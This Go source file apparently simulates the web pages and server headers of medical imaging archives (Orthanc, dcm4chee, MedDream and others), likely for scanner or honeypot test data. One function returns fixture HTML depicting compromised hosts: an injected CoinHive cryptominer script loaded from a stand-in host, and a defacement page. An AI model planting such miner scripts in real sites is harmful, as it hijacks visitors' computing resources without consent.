package plan

import "fmt"

// page is whose web pages a service shows. The pages are our own: they have the
// titles, headers and paths by which the products are known, and little else.
type page string

const (
	NoPage         page = ""
	pageOrthanc    page = "orthanc"       // Orthanc Explorer, open
	pageOrthancAsk page = "orthanc-login" // Orthanc behind its password
	pageOHIF       page = "ohif"
	pageOviyam     page = "oviyam"
	pageDcm4chee   page = "dcm4chee"
	PageDcm4cheArc page = "dcm4chee-arc"
	pageConquest   page = "conquest"
	pageMedDream   page = "meddream"
	pageMedAsk     page = "meddream-login"
	pageWeasis     page = "weasis"
	pageClear      page = "clearcanvas"
	pageOsiriX     page = "osirix"
	pagePlain      page = "plain" // a page that tells nothing of images
)

// Viewer says whether the page shows images or studies to anyone.
func (p page) Viewer() bool {
	switch p {
	case pageOrthanc, pageOHIF, pageOviyam, pageConquest, pageMedDream, pageWeasis:
		return true
	}
	return false
}

// admin says whether the page lets anyone administer the archive.
func (p page) admin() bool { return p == pageOrthanc || p == pageConquest }

const password = `<form method="post"><input name="user"><input type="password" name="pass"><button>Log in</button></form>`

// WebPage is one answer of a web server.
type WebPage struct {
	Status   int
	Title    string
	Body     string // HTML within <body>, or everything where kind is set
	Kind     string // Content-Type, "" is HTML made of title and body
	Location string // of a redirection
	Realm    string // of a demand for a password
}

// Pages are those of a service by path; every is what all other paths show.
func (w *WebService) Pages() (pages map[string]WebPage, every *WebPage) {
	ok := func(title, body string) WebPage { return WebPage{Status: 200, Title: title, Body: body} }
	to := func(path string) WebPage { return WebPage{Status: 302, Title: "Moved", Location: path} }
	switch w.Page {
	case pageOrthanc:
		return map[string]WebPage{
			"/":                  {Status: 301, Title: "Moved", Location: "app/explorer.html"},
			"/app/explorer.html": ok("Orthanc Explorer", "<h1>Patients Studies Series</h1>"),
			"/system": {Status: 200, Kind: "application/json", Body: fmt.Sprintf(
				`{"ApiVersion":1,"DatabaseVersion":6,"DicomAet":"ORTHANC","DicomPort":4242,"HttpPort":%d,"Name":"ORTHANC","PluginsEnabled":true,"Version":%q}`,
				w.Port, w.Software.Version)},
		}, nil
	case pageOrthancAsk:
		return nil, &WebPage{Status: 401, Title: "401 Unauthorized", Body: "<h1>Unauthorized</h1>", Realm: "Orthanc Secure Area"}
	case pageOHIF: // an application of one page, which every path shows
		p := ok("OHIF Viewer", `<meta name="description" content="Open Health Imaging Foundation DICOM Viewer"><div id="root"></div>`)
		return map[string]WebPage{"/": p}, &p
	case pageOviyam:
		return map[string]WebPage{"/": ok("Welcome to JBoss", "<h1>JBoss Online Resources</h1>"),
			"/oviyam2/": ok("Oviyam", `<div id="patient-search">Oviyam - Search patients</div>`)}, nil
	case pageDcm4chee:
		return map[string]WebPage{"/": ok("Welcome to JBoss", "<h1>JBoss Online Resources</h1>"),
			"/dcm4chee-web3/": ok("dcm4chee-web3", "dcm4chee"+password)}, nil
	case PageDcm4cheArc:
		return map[string]WebPage{"/": to("/dcm4chee-arc/ui2/"), "/dcm4chee-arc/ui2/": ok("dcm4chee-arc", "<app-root>dcm4chee-arc</app-root>")}, nil
	}
	return w.morePages(ok, to), nil
}

func (w *WebService) morePages(ok func(title, body string) WebPage, to func(string) WebPage) map[string]WebPage {
	switch w.Page {
	case pageConquest:
		const top = "/cgi-bin/dgate.exe?mode=top"
		return map[string]WebPage{"/": to(top), top: ok("CONQUEST DICOM server", "<h1>Welcome to the Conquest DICOM server</h1> version: "+w.Software.Version+" <a>Find studies</a>")}
	case pageMedDream:
		return map[string]WebPage{"/": to("/meddream/"), "/meddream/": ok("MedDream", "<h1>Search studies</h1>")}
	case pageMedAsk:
		return map[string]WebPage{"/": to("/meddream/"), "/meddream/": ok("MedDream", password)}
	case pageWeasis:
		return map[string]WebPage{"/": ok("PACS", "<h1>It works</h1>"), "/weasis-pacs-connector/viewer": ok("Weasis", "weasis-pacs-connector: choose a study")}
	case pageClear:
		const login = "/ImageServer/Pages/Login/Default.aspx"
		return map[string]WebPage{"/": to(login), login: ok("ClearCanvas ImageServer", password)}
	case pageOsiriX:
		return map[string]WebPage{"/": ok("OsiriX Web Portal", password)}
	}
	return map[string]WebPage{"/": ok("Radiology", w.mark.text())}
}

// text is the page of a host that tells nothing, and what an intruder made of it.
func (m mark) text() string {
	switch m {
	case minerMark:
		return `<h1>Radiology</h1><script src="https://coinhive.invalid/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("site-key").start()</script>`
	case defaceMark:
		return `<h1>Hacked by Synthetic Cr3w</h1><p>your security is low</p>`
	}
	return `<h1>Radiology</h1><p>Intranet</p>`
}

// status is that of the first page.
func (w *WebService) status() int {
	pages, every := w.Pages()
	if p, ok := pages["/"]; ok {
		return p.Status
	}
	return every.Status
}

// stack is the web server and language around a page, as their headers tell.
type stack struct {
	server, powered string
	products        []release // what an expert reads in them
}

// release is a product and its version.
type release struct{ Product, Version string }

func (s *stack) Headers() map[string]string {
	h := map[string]string{}
	if s != nil && s.server != "" {
		h["Server"] = s.server
	}
	if s != nil && s.powered != "" {
		h["X-Powered-By"] = s.powered
	}
	return h
}

// StackOf is what usually is around a product's pages; variant tells apart those
// of hosts whose pages tell nothing.
func StackOf(p page, variant uint64) *stack {
	jboss := &stack{"Apache-Coyote/1.1", "Servlet 2.4; JBoss-4.2.3.GA (build: SVNTag=JBoss_4_2_3_GA date=200807181439)/JBossWeb-2.0",
		[]release{{"JBoss", "4.2.3.GA"}}}
	xampp := &stack{"Apache/2.2.14 (Win32) PHP/5.3.1", "PHP/5.3.1", []release{{"Apache HTTP Server", "2.2.14"}, {"PHP", "5.3.1"}}}
	iis := &stack{"Microsoft-IIS/6.0", "ASP.NET", []release{{"IIS", "6.0"}}}
	switch p {
	case pageOviyam, pageDcm4chee:
		return jboss
	case PageDcm4cheArc:
		return &stack{server: "WildFly/14"}
	case pageMedDream, pageMedAsk:
		return xampp
	case pageClear, pageConquest:
		return iis
	case pageOHIF:
		return &stack{server: "nginx/1.14.0"}
	case pageWeasis:
		return &stack{server: "Apache-Coyote/1.1"}
	case pagePlain:
		return []*stack{xampp, iis, {server: "nginx/1.14.0"}, nil}[variant%4]
	}
	return nil
}
